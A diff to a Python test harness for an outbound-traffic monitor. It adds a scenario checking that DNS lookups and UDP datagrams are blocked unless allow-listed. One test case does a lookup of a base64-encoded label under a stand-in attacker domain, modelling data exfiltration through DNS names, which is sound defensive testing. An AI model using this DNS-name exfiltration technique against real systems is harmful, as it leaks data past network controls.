@@ -271,6 +271,23 @@ def scenario_native():
     return {"results": out, "findings": found, "baseline": learn.baseline_toml()}
 
 
+def scenario_lookups():
+    """Name lookups and datagrams are outbound traffic too: a lookup can carry data out in the name."""
+    m = Monitor("block", {"outbound_connectivity": "block", "allow": {"hosts": ["127.0.0.1:7", "localhost"]}},
+                sink=sink)
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    cases = {
+        "lookup_allowed": lambda: socket.gethostbyname("localhost"),
+        "lookup_exfil": lambda: socket.gethostbyname("c2VjcmV0.attacker.invalid"),
+        "reverse_lookup_other": lambda: socket.gethostbyaddr("192.0.2.7"),
+        "sendmsg_allowed": lambda: udp.sendmsg([b"x"], [], 0, ("127.0.0.1", 7)),
+        "sendmsg_other": lambda: udp.sendmsg([b"x"], [], 0, ("127.0.0.1", 9)),
+    }
+    out = {name: attempt(lambda fn=fn: m.run(name, fn)) for name, fn in cases.items()}
+    udp.close()
+    return {"results": out, "findings": found}
+
+
 def scenario_tamper():
     import edge_ssre.behavior.monitor as internals
     from edge_ssre.behavior import internal
@@ -433,5 +450,5 @@ if __name__ == "__main__":
           "cache_exact": scenario_cache_exact, "cache_bounded": scenario_cache_bounded, "run": scenario_run,
           "threads": scenario_threads, "learn_threads": scenario_learn_threads,
           "protect_learn": scenario_protect_learn, "threads_ignored": scenario_threads_ignored,
-          "native": scenario_native}[name]
+          "native": scenario_native, "lookups": scenario_lookups}[name]
     print(json.dumps(fn()))
